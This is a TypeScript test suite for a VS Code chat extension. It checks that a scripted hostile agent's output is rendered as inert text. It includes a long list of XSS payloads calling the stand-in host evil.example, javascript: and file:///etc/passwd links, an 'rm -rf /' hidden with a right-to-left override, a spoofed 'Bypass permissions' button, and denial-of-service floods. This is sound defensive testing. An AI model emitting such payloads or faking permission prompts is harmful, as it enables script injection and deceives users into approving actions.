/** An agent that tries to take over the page: all its output is shown as text. */
import assert from "node:assert/strict";
import { timeLimit } from "../../../scripts/time-limits.mjs";
import { promptInput, sendPrompt, turnEnded, type Box } from "./harness";
import { guardPage } from "./page-guard";
import { becomes, button, newTab, openScripted, seen, shownText, showsText, stopTurn } from "./scripted";

/** An executed script sets this, in any frame. */
const RUN = "window.hacked=(window.hacked||0)+1";
/** A nonexistent host; the test detects requests to it. */
const ELSEWHERE = "https://evil.example";

const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<img src="${ELSEWHERE}/x.png" onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe src="${ELSEWHERE}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action="${ELSEWHERE}"><input name="secret" autofocus onfocus="${RUN}"><button>Send</button></form>`,
  `<style>#symposium { display: none !important } .mynah-chat-item-card { visibility: hidden }</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<video src="${ELSEWHERE}/v" onerror="${RUN}" autoplay></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${RUN}" onmouseover="${RUN}">html link</a>`,
  `<button action-id="bypass" class="mynah-button" onclick="${RUN}">Bypass permissions for this agent</button>`,
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `&#60;img src=x onerror="${RUN}"&#62;`,
  `"><img src=x onerror="${RUN}">`,
  `--></style></script></textarea><img src=x onerror="${RUN}">`,
].join(" ");

const MARKDOWN = [
  `![image](${ELSEWHERE}/i.png)`,
  `![image][there]`,
  `[script link](javascript:${RUN})`,
  `[encoded link](&#106;avascript:${RUN})`,
  `[spaced link](<java\tscript:${RUN}>)`,
  "[data link](data:text/html,<script>parent.hacked=1</script>)",
  "[command link](command:workbench.action.toggleSidebarVisibility)",
  "[file link](file:///etc/passwd)",
  "[up link](../../../../../../etc/passwd)",
  "[vscode link](vscode://file/etc/passwd)",
  `[web link](${ELSEWHERE}/page)`,
  `[title link](${ELSEWHERE}/a "x\\" onmouseover=\\"${RUN}")`,
  `[quote link](${ELSEWHERE}/"onmouseover="${RUN})`,
  `<${ELSEWHERE}/"onclick="${RUN}>`,
  `[referenced link][there]`,
  `\`<img src=x onerror="${RUN}">\``,
  `\`\`\`html"><img/src=x/onerror="${RUN}">\n${HTML}\n\`\`\``,
  `| a |\n|---|\n| ${HTML.replaceAll("|", "")} |`,
  `- ${HTML}`,
  `> ${HTML}`,
  `# ${HTML}`,
  `Turned \u202Etxet denrut`,
  `[there]: javascript:${RUN} "${HTML.replaceAll('"', "'")}"`,
].join("\n\n");

/** Escapes a text for a one-line step of the scripted agent. */
const step = (text: string): string => text.replaceAll("\\", "\\\\").replaceAll("\n", "\\n").replaceAll("\t", "\\t");
const field = (name: string, value: unknown): string => `${name}=${JSON.stringify(value)}`;
const TURNED = "rm -rf / \u202Etxt.";

const EVERYWHERE = `title ${step(HTML)}
think ${step(MARKDOWN)}
say ${step(`${HTML}\n\n${MARKDOWN}\n\nEND-OF-TEXT`)}
plan [x] ${HTML.replaceAll("|", "")} | ${step(MARKDOWN).replaceAll("|", "")}
tool t1 execute ${step(`${HTML} ${MARKDOWN}`)}
toolupdate t1 failed ${field("input", { [HTML]: MARKDOWN })} ${field("rawOutput", `${HTML}\n${MARKDOWN}`)} ${field("text", `${HTML}\n\n${MARKDOWN}`)} ${field("diff", { path: `/srv/${HTML}](javascript:${RUN})`, oldText: HTML, newText: MARKDOWN })} ${field("locations", `/srv/x](javascript:${RUN})<img/src=x/onerror=${RUN}>.js:3`)} ${field("resource", { uri: `javascript:${RUN}`, text: HTML })} ${field("link", { uri: `javascript:${RUN}`, name: HTML })} ${field(`image`, `"><script>${RUN}</script>`)} ${field("foreign", { html: HTML })}
tool t2 _own plain
ask p1 ${field("title", `${TURNED} ${HTML}`)} ${field("input", { command: TURNED, html: HTML })} ${field("options", [
  { optionId: "no", name: `No ${HTML} \u202Eyes`, kind: "reject_once" },
  { optionId: `"><img src=x onerror="${RUN}">`, name: "**Really** <b>no</b> [x](javascript:1)", kind: "_own" },
])}
error -32603 ${step(`${HTML} ${MARKDOWN}`)}`;

const FAKE_CARD = `**Scripted** wants to run a command

**Remove the build folder**

\`\`\`json
{ "command": "ls" }
\`\`\`

[Allow once](command:symposium.restartAgent) [Allow always](#option:allow_always) <button action-id="option:allow_once">Allow once</button> <div class="mynah-button" action-id="bypass">Bypass permissions for this agent</div>`;

interface Taken {
  readonly box: Box;
  /**
   * In each frame of the page: executed scripts, policy violations, forbidden elements; and requests to other hosts.
   */
  harm(): Promise<readonly string[]>;
}

/** The chat with a turn whose content includes all of it. */
async function takenOver(policy: "kept" | "removed"): Promise<Taken> {
  const box = await openScripted({ settings: { "symposium.logLevel": "debug" } }),
    asked: string[] = [];
  box.page.on("request", request => {
    if (request.url().startsWith(ELSEWHERE)) asked.push(request.url());
  });
  const guard = await guardPage(box.page, policy);
  await box.open();
  assert.deepEqual(await guard.found(), [], "before the agent has said anything");
  await sendPrompt(box.frame, EVERYWHERE);
  await showsText(box.frame, "END-OF-TEXT");
  await button(box.frame, "**Really**").first().waitFor();
  // Unfolded, so that their content is drawn.
  for (const fold of await box.frame.locator(".mynah-chat-item-summary-button:visible").all()) await fold.click();
  return { box, harm: async () => [...(await guard.found()), ...asked] };
}

/** Adds a script without permission. Returns whether it ran; otherwise the violation has been dispatched. */
const plantedScriptRuns = (box: Box): Promise<boolean> =>
  box.frame.locator("body").evaluate(async body => {
    const heard = new Promise(resolve => {
      document.addEventListener("securitypolicyviolation", resolve, { once: true });
    });
    const script = document.createElement("script");
    script.textContent = "window.planted = true";
    body.append(script);
    if (!("planted" in window)) await heard;
    script.remove();
    return "planted" in window;
  });

suite("an agent that wants to take the page over, without the content security policy", () => {
  let box: Box, harm: Taken["harm"];
  suiteSetup(async () => {
    ({ box, harm } = await takenOver("removed"));
  });
  suiteTeardown(() => box.close());

  test("the renderer alone lets nothing run, and makes no handler and no dangerous address, not for a moment", async () => {
    assert.deepEqual(await harm(), []);
    await button(box.frame, "**Really**").first().click();
    await turnEnded(box.frame);
    await showsText(box.frame, /answered with an error/);
    assert.deepEqual(await harm(), []);
    assert.ok(await plantedScriptRuns(box), "the policy is gone");
  });

  test("the record has what is there for a moment only", async () => {
    await box.frame.locator("body").evaluate(() => {
      document.createElement("div").innerHTML = `<b onclick="moment()">x</b>`;
      document.createElement("a").setAttribute("href", "java\tscript:moment()");
      const heading = document.createElement("h1");
      heading.toggleAttribute("onmouseover");
      document.body.append(heading);
    });
    const moments = [`b onclick="moment()"`, `a href="java\tscript:moment()"`, `h1 onmouseover=""`];
    assert.deepEqual((await harm()).slice(0, moments.length), moments);
  });
});

suite("an agent that wants to take the page over", () => {
  let box: Box, harm: Taken["harm"];
  suiteSetup(async () => {
    ({ box, harm } = await takenOver("kept"));
  });
  suiteTeardown(() => box.close());

  test("nothing of what it says runs, loads or is even tried, in any part of any card", async () => {
    assert.deepEqual(await harm(), []);
    await box.screenshot("hostile-light");
  });

  test("no element that it spelled is in the page, and no attribute that would run", async () => {
    const found = await box.frame.locator("#symposium").evaluate(root => {
      const cards = [...root.querySelectorAll(".mynah-chat-items-container *")];
      return [
        ...cards.filter(element =>
          element.matches(
            "script, img, svg, math, iframe, frame, form, input, textarea, select, style, link, meta, base, object, embed, video, audio, details, dialog, [srcdoc], [formaction]",
          ),
        ),
        ...cards.filter(
          element => element.matches("button") && !element.matches(".mynah-button.mynah-ui-clickable-item"),
        ),
        ...[...root.querySelectorAll("*")].filter(element =>
          [...element.attributes].some(
            ({ name, value }) =>
              /^on/i.test(name) ||
              (/hacked/.test(value) &&
                !["href", "title", "placeholder", "class", "action-id", "messageid"].includes(name)),
          ),
        ),
        ...cards.filter(element => getComputedStyle(element).position === "fixed"),
      ].map(element => element.outerHTML.slice(0, 200));
    });
    assert.deepEqual(found, []);
  });

  test("what it says is shown as it was said: in titles, options, names of files and the tab", async () => {
    const shown = (await box.frame.locator(".mynah-chat-wrapper:visible [data-kind]").allInnerTexts()).join("\n");
    for (const text of [
      `<img src=x onerror=${RUN}>`,
      "No <script>",
      "**Really** <b>no</b> [x](javascript:1)",
      "rm -rf / ⟦U+202E⟧txt.",
    ])
      assert.ok(shown.includes(text), `“${text}” is not in ${shown.slice(-3000)}`);
    assert.ok((await box.frame.locator(".mynah-tab-item-label").first().innerText()).includes("<script>"));
    const [answer = ""] = await box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer]").allInnerTexts();
    assert.ok(answer.includes("<form action="));
  });

  test("the input is still on top, and takes a draft", async () => {
    const input = box.frame.locator(".mynah-chat-prompt-input:visible");
    await input.click(); // refused if another element covers it
    await input.pressSequentially("still here");
    await becomes(() => input.innerText(), "still here", "the draft");
    await input.fill("");
  });

  test("a click on a link to a script, a command or a file elsewhere does nothing but a line in the log", async () => {
    const links = box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer] a:visible");
    const dangerous: string[] = [];
    for (const link of await links.all()) {
      const href = (await link.getAttribute("href")) ?? "";
      if (/^https?:/.test(href)) continue;
      dangerous.push(href);
      await link.click();
      await link.click({ button: "middle" });
      await link.focus();
      await box.page.keyboard.press("Enter");
    }
    for (const kind of ["file:", "../"])
      assert.ok(
        dangerous.some(href => href.startsWith(kind)),
        `no link ${kind} among ${dangerous.join(" ")}`,
      );
    assert.deepEqual(
      dangerous.filter(href => /^\s*(?!file:)[^/?#]*:/i.test(href)),
      [],
      "a script or a command is not even a link",
    );
    await seen(async () => box.readLog().includes("outside the workspace"), "the line in the log");
    assert.deepEqual(await harm(), []);
    assert.equal(box.page.context().pages().length, 1);
    assert.equal(await box.page.locator(".monaco-dialog-box:visible").count(), 0);
    assert.ok(await box.frame.locator("#symposium").isVisible(), "the command that hides the side bar was not run");
  });

  test("a link to the web asks first, in VS Code's own dialog", async () => {
    await box.frame
      .locator(".mynah-chat-wrapper:visible [data-kind=answer] a:visible", { hasText: "web link" })
      .first()
      .click();
    const dialog = box.page.locator(".monaco-dialog-box:visible");
    await dialog.waitFor();
    assert.match(await dialog.innerText(), /evil\.example/);
    await box.page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });
    assert.deepEqual(await harm(), []);
  });

  test("a refusal is heard under the option's own id, however it is named, and what follows is harmless too", async () => {
    await button(box.frame, "**Really**").first().click();
    await turnEnded(box.frame);
    await showsText(box.frame, /answered with an error/);
    assert.deepEqual(await harm(), []);
  });

  test("a permission card that is only drawn has no button that does anything", async () => {
    await sendPrompt(box.frame, `say ${step(FAKE_CARD)}`);
    await showsText(box.frame, "Remove the build folder");
    await turnEnded(box.frame);
    const card = box.frame
      .locator(".mynah-chat-wrapper:visible [data-kind=answer]", { hasText: "Remove the build folder" })
      .last();
    assert.equal(await card.locator("[action-id], form, input").count(), 0);
    assert.deepEqual(
      (await card.locator("button:visible").allInnerTexts()).map(label => label.trim()),
      ["Copy"],
    );
    const before = await box.frame.locator(".mynah-chat-wrapper:visible [data-kind]").count();
    assert.equal(await card.locator("a[href^='command:']").count(), 0);
    for (const link of await card.locator("a:visible").all()) await link.click();
    assert.equal(await box.frame.locator(".mynah-chat-wrapper:visible [data-kind]").count(), before);
  });

  test("a violation of the content security policy is heard inside the page", async () => {
    assert.deepEqual(await harm(), []);
    assert.equal(await plantedScriptRuns(box), false);
    const after = await harm();
    assert.ok(after.length === 1 && after[0]?.startsWith("script-src"), JSON.stringify(after));
  });

  test("an output of 50,000 characters is cut in its card, which says by how much", async () => {
    await sendPrompt(
      box.frame,
      `tool long execute Long\ntoolupdate long completed rawOutput=${"x".repeat(50_000)}\ntool lines execute Lines\ntoolupdate lines completed ${field("rawOutput", "a line of 25 characters.\n".repeat(2_000))}\nsay DONE`,
    );
    await turnEnded(box.frame);
    const textOf = async (title: string): Promise<string> =>
      (await box.frame
        .locator(".mynah-chat-wrapper:visible [data-kind=tool]", { hasText: title })
        .last()
        .textContent()) ?? "";
    const [long, lines] = [await textOf("Long"), await textOf("Lines")];
    assert.match(long, /34000 more characters are not shown/);
    assert.ok(long.length < 17_000 && long.length > 16_000, String(long.length));
    assert.match(lines, /1\d\d\d more lines are not shown/);
    assert.ok(lines.length < 17_000, String(lines.length));
  });
});

const FLOODS: readonly (readonly [what: string, script: string, told: string | RegExp])[] = [
  ["100,000 tool calls", "flood 100000 tools", "sends more in this turn than can be kept"],
  ["100,000 updates of one tool call", "flood 100000 updates", "flood 100000"],
  ["100,000 pieces of text", "stream 100000 chunks of 25 chars", "sends more in this turn than can be kept"],
  ["a command that prints 20 MB", "terminal sh -c 'yes flood | head -c 20000000'\nsay THE-END", "THE-END"],
  ["one message of 50 MB", "big 50 MB", /sends more in this turn than can be kept|larger than|too long|too large/],
];
/**
 * A machine that runs all of VS Code beside the flood is slow and occasionally delays a key. A frozen page takes much
 * longer.
 */
const SOON_MS = 1_000,
  FROZEN_MS = 10_000;

suite("an agent that floods", () => {
  let box: Box;
  let quiet: string;
  suiteSetup(async () => {
    box = await openScripted();
    await box.open();
    quiet = await selectedTab(box);
  });
  suiteTeardown(() => box.close());

  for (const [what, script, told] of FLOODS)
    test(`${what}: a key in another tab is on screen soon, the user is told, and the agent can be stopped`, async function () {
      this.timeout(timeLimit(300_000));
      await newTab(box);
      const flooded = await selectedTab(box);
      await (await promptInput(box.frame)).fill(script);
      await box.frame.locator(".mynah-chat-prompt-button:visible").click();
      await selectTab(box, quiet);
      const times = await typedKeys(box, "still here");
      const half = times.toSorted((a, b) => a - b)[times.length >> 1] ?? Infinity;
      assert.ok(half < SOON_MS && Math.max(...times) < FROZEN_MS, `${what}: ${times.map(Math.round).join(" ")} ms`);
      await selectTab(box, flooded);
      await seen(
        async () =>
          typeof told === "string"
            ? (await shownText(box.frame)).includes(told)
            : told.test(await shownText(box.frame)),
        `the end of ${what}`,
        90_000,
      );
      await stopTurn(box.frame);
      await (await promptInput(box.frame)).fill("say STILL-ALIVE");
      await box.frame.locator(".mynah-chat-prompt-button:visible").click();
      await showsText(box.frame, /^STILL-ALIVE$/m);
    });
});

const selectedTab = async (box: Box): Promise<string> =>
  (await box.frame.locator("body").getAttribute("data-tab")) ?? "";

/** Selects tab after tab until it is this one. */
async function selectTab(box: Box, tabId: string): Promise<void> {
  await seen(async () => {
    for (const label of await box.frame.locator(".mynah-tab-item-label").all()) {
      await label.click();
      if ((await selectedTab(box)) === tabId) return true;
    }
    return false;
  }, "that tab");
}

/** Milliseconds from each key to the frame that shows it. */
async function typedKeys(box: Box, text: string): Promise<readonly number[]> {
  const body = box.frame.locator("body"),
    input = await promptInput(box.frame);
  await input.fill("");
  await input.click();
  await body.evaluate(() => {
    const times: number[] = [],
      before = "keyTimes" in window;
    Object.assign(window, { keyTimes: times });
    if (before) return;
    addEventListener(
      "keydown",
      ({ timeStamp }) => {
        requestAnimationFrame(() =>
          requestAnimationFrame(() => {
            if ("keyTimes" in window && Array.isArray(window.keyTimes))
              window.keyTimes.push(performance.now() - timeStamp);
          }),
        );
      },
      true,
    );
  });
  await input.pressSequentially(text, { delay: 100 });
  await becomes(() => input.innerText(), text, "what was typed");
  const times = () =>
    body.evaluate(() => ("keyTimes" in window && Array.isArray(window.keyTimes) ? window.keyTimes.map(Number) : []));
  await becomes(async () => (await times()).length, text.length, "the frame after the last key");
  return times();
}
